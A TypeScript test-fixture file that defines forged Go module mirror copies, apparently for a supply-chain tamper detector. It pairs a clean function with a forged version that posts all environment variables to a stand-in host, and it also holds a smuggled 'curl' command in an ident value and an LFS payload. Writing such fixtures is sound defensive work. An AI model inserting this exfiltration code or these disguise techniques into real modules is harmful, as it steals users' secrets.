/**
 * The attack, in the clothes of everything that is harmless: code is added to
 * the mirror's copy, and beside it something is so as it may honestly be. In
 * each the difference in code has to stay an error.
 *
 * INERT. The Go text of the addition is never compiled and never run. The host
 * in it is below example.invalid, which never resolves (RFC 2606).
 */
import type {
  Expected,
  ModuleDescription,
  Refs,
  RepositoryDescription,
  Tree,
  UpstreamState,
  ZipFiles,
} from './description.ts';
import { licence, pick, withCrlf } from './files.ts';
import { type HonestOptions, honest, released } from './shapes.ts';

const CLEAN = `package mask

// Wear gives the number of ribbons.
func Wear(ribbons int) int {
	return ribbons * 2
}
`;

/** What the mirror has in the place of {@link CLEAN}. */
const FORGED = `package mask

import (
	"net/http"
	"os"
	"strings"
)

// Wear gives the number of ribbons.
func Wear(ribbons int) int {
	tell()
	return ribbons * 2
}

func tell() {
	_, _ = http.Post("http://carnival.example.invalid/", "text/plain", strings.NewReader(strings.Join(os.Environ(), " ")))
}
`;

const README = '# mask\n\nRibbons for carnival.\n';

function treeOf(path: string, more: Tree = {}): Tree {
  return {
    'go.mod': `module ${path}\n\ngo 1.24\n`,
    LICENSE: licence(2024, 'Marrowby'),
    'README.md': README,
    'mask.go': CLEAN,
    ...more,
  };
}

/** The tree of a module in `directory`, whose licence is the root's. */
function lower({ LICENSE: _lent, ...tree }: Tree, directory: string): Tree {
  return Object.fromEntries(Object.entries(tree).map(([path, file]) => [`${directory}/${path}`, file]));
}

function alarm(content: Omit<Expected['content'], 'state'>, upstream: UpstreamState = 'present'): Expected {
  const isMoved = upstream === 'tag-moved';
  const code = upstream === 'owner-changed' ? 'origin/owner-changed' : `origin/${upstream}`;
  return {
    content: {
      state: 'diverged',
      changed: ['mask.go'],
      onlyMirror: [],
      onlyUpstream: [],
      capabilitiesGained: ['network'],
      initAdded: false,
      ...content,
    },
    upstream,
    findings: [
      { code: 'origin/diverged', severity: 'error' },
      ...(upstream === 'present' ? [] : [{ code, severity: isMoved ? 'error' : 'warning' } as const]),
    ],
  };
}

interface Disguise
  extends Partial<Pick<HonestOptions, 'origin' | 'mod' | 'directories' | 'expected' | 'commit' | 'version'>> {
  readonly name: string;
  readonly story: string;
  readonly owner?: string;
  readonly tree?: Tree;
  readonly repository?: Partial<RepositoryDescription>;
  readonly tags?: readonly string[];
  /** Names that the zip holds as the tree has them, beside go.mod and LICENSE. */
  readonly files?: readonly string[];
  /** What the zip holds besides; the forged `mask.go` when absent. */
  readonly forged?: ZipFiles;
  /** The directory that the module is in, beside a module at the root. */
  readonly below?: string;
  /** True: upstream had these very bytes when the mirror came. */
  readonly wasUpstream?: true;
}

/** A module with a release, of which the mirror has another copy. */
function disguised(options: Disguise): ModuleDescription {
  const { name, story, repository, tags, files = ['README.md'], forged = { 'mask.go': FORGED } } = options;
  const root = `github.com/${options.owner ?? 'marrowby'}/${name.replace('attack', 'mask')}`;
  const { mod, directories, commit, below, version = 'v1.0.0' } = options;
  const path = below === undefined ? root : `${root}/${below}`;
  const own = treeOf(path, options.tree);
  const tree = below === undefined ? own : { ...treeOf(root), ...lower(own, below) };
  const tag = below === undefined ? version : `${below}/${version}`;
  const origin = below === undefined ? options.origin : { ref: `refs/tags/${tag}`, subdirectory: below };
  return {
    ...honest({
      name,
      story,
      path,
      version,
      repository: {
        ...released({ url: `https://${root}`, tags: tags ?? [tag], date: '2024-02-12T20:00:00Z', tree }),
        ...repository,
      },
      tree: own,
      files: ['go.mod', 'LICENSE', ...files].filter((file) => !(file in forged)),
      otherFiles: forged,
      expected: options.expected ?? alarm({ equals: null }),
      ...(origin === undefined ? {} : { origin }),
      ...(mod === undefined ? {} : { mod }),
      ...(directories === undefined ? {} : { directories }),
      ...(commit === undefined ? {} : { commit }),
    }),
    kind: 'attack',
    ...(options.wasUpstream === true ? {} : { forged: true }),
  };
}

/** The whole history of a release that was hostile first, or beside it: commits `hostile` and `clean`. */
function withHostileCommit(path: string, refs: Refs, refsNow: Refs, isFirst: boolean): RepositoryDescription {
  const clean = {
    label: 'clean',
    date: '2024-02-12T20:00:00Z',
    message: 'release v1.0.0\n',
    tree: treeOf(path),
  };
  const hostile = {
    label: 'hostile',
    date: '2024-02-12T21:00:00Z',
    message: 'count ribbons\n',
    tree: treeOf(path, { 'mask.go': FORGED }),
  };
  const first = { ...hostile, date: '2024-02-12T19:00:00Z' };
  return { url: `https://${path}`, commits: isFirst ? [first, clean] : [clean, hostile], refs, refsNow };
}

const ATTRIBUTES = '*.dat filter=lfs -text\n*.go ident\n';

export const DISGUISE_MODULES: readonly ModuleDescription[] = [
  disguised({
    name: 'attack-on-windows',
    story: 'Every text file has CR LF, as if built on Windows, and one has code that upstream has not.',
    files: [],
    forged: {
      ...Object.fromEntries(
        Object.entries(
          pick(treeOf('github.com/marrowby/mask-on-windows'), ['go.mod', 'LICENSE', 'README.md']),
        ).map(([path, text]) => [path, withCrlf(String(text))]),
      ),
      'mask.go': withCrlf(FORGED),
    },
    expected: alarm({ changed: ['LICENSE', 'README.md', 'go.mod', 'mask.go'], equals: null }),
  }),
  disguised({
    name: 'attack-by-builder-attributes',
    story: "As if the builder's own attributes had written CR LF into Go files, and one has more code.",
    forged: { 'mask.go': withCrlf(FORGED) },
  }),
  disguised({
    name: 'attack-in-lfs',
    story: 'A file in Git LFS that is embedded, and another content than the pointer names.',
    tree: {
      '.gitattributes': ATTRIBUTES,
      'mask.go': CLEAN.replace(
        'package mask\n',
        'package mask\n\nimport _ "embed"\n\n//go:embed run.dat\nvar run []byte\n',
      ),
      'run.dat':
        'version https://git-lfs.github.com/spec/v1\noid sha256:3e8b0ab273ee48cc5856e0f848ba7e3be063dcbe041f85375c2047662e8667d9\nsize 46\n',
    },
    files: ['.gitattributes', 'README.md', 'mask.go'],
    forged: { 'run.dat': 'curl carnival.example.invalid, and more of it\n' },
    expected: alarm({ changed: ['run.dat'], capabilitiesGained: [], equals: null }),
  }),
  disguised({
    name: 'attack-behind-ident',
    story: 'The attribute ident, and in the place of the id a text of its own.',
    tree: { '.gitattributes': ATTRIBUTES, 'mask.go': `${CLEAN}\nconst id = "$Id$"\n` },
    files: ['.gitattributes', 'README.md'],
    forged: { 'mask.go': `${CLEAN}\nconst id = "$Id: curl\${IFS}carnival.example.invalid $"\n` },
    expected: alarm({ capabilitiesGained: [], equals: null }),
  }),
  disguised({
    name: 'attack-in-vendor',
    story: 'A vendor folder by the rule of older tools, and one file more.',
    tree: { 'vendor/modules.txt': '# nothing\n', 'vendor/mask.go': 'package vendor\n' },
    files: ['README.md', 'mask.go', 'vendor/modules.txt', 'vendor/mask.go'],
    forged: { 'vendor/extra.go': FORGED },
    expected: alarm({ changed: [], onlyMirror: ['vendor/extra.go'], equals: null }),
  }),
  disguised({
    name: 'attack-with-directories',
    story: 'A zip with entries for directories, and more code in a file.',
    directories: ['internal/'],
  }),
  disguised({
    name: 'attack-after-rename',
    story: 'The repository was renamed by its owner, and the zip has more code.',
    repository: {
      alsoAt: ['https://github.com/marrowby/masquerade'],
      answersNow: { kind: 'redirects', toUrl: 'https://github.com/marrowby/masquerade' },
    },
  }),
  disguised({
    name: 'attack-as-branch',
    story: 'The tag became a branch, and the zip is not the clean commit that Origin names.',
    repository: { refsNow: { 'refs/heads/main': 'after', 'refs/heads/v1.0.0': 'release' } },
    expected: alarm({ equals: null }, 'tag-missing'),
  }),
  disguised({
    name: 'attack-below-a-tag',
    story: 'A pseudo-version that no go command would derive today, and a zip with more code.',
    version: 'v0.5.1-0.20240212200000-a83bf42f9716',
    tags: ['v0.5.0'],
    repository: {
      refs: { 'refs/heads/main': 'after', 'refs/tags/v0.5.0': 'start' },
      refsNow: { 'refs/heads/main': 'after' },
    },
    origin: {},
  }),
  disguised({
    name: 'attack-in-history',
    story: 'The tag was moved off a hostile commit, which main still reaches.',
    commit: 'hostile',
    repository: withHostileCommit(
      'github.com/marrowby/mask-in-history',
      { 'refs/heads/main': 'hostile', 'refs/tags/v1.0.0': 'hostile' },
      { 'refs/heads/main': 'clean', 'refs/tags/v1.0.0': 'clean' },
      true,
    ),
    wasUpstream: true,
    expected: alarm({ equals: 'hostile' }, 'tag-moved'),
  }),
  disguised({
    name: 'attack-in-other-case',
    story: "The path is written in other letters than the owner's, and the zip has more code.",
    owner: 'Marrowby',
    repository: { alsoAt: ['https://github.com/marrowby/mask-in-other-case'] },
  }),
  disguised({
    name: 'attack-in-directory',
    story: 'A module in a directory with its own tag and a licence from the root, and more code in the zip.',
    below: 'half',
  }),
  disguised({
    name: 'attack-as-race',
    story:
      'As if fetches had raced: Origin names the clean tag, and the zip is the head of a branch with more code.',
    commit: 'clean',
    repository: withHostileCommit(
      'github.com/marrowby/mask-as-race',
      { 'refs/heads/main': 'clean', 'refs/heads/next': 'hostile', 'refs/tags/v1.0.0': 'clean' },
      { 'refs/heads/main': 'clean', 'refs/heads/next': 'hostile', 'refs/tags/v1.0.0': 'clean' },
      false,
    ),
    expected: alarm({ equals: 'hostile' }),
  }),
  disguised({
    name: 'attack-as-neighbour',
    story: 'The zip is that of the next version, which has more code.',
    commit: 'clean',
    repository: withHostileCommit(
      'github.com/marrowby/mask-as-neighbour',
      { 'refs/heads/main': 'clean', 'refs/tags/v1.0.0': 'clean', 'refs/tags/v1.0.1': 'hostile' },
      { 'refs/heads/main': 'clean', 'refs/tags/v1.0.0': 'clean', 'refs/tags/v1.0.1': 'hostile' },
      false,
    ),
    expected: alarm({ equals: 'hostile' }),
  }),
];
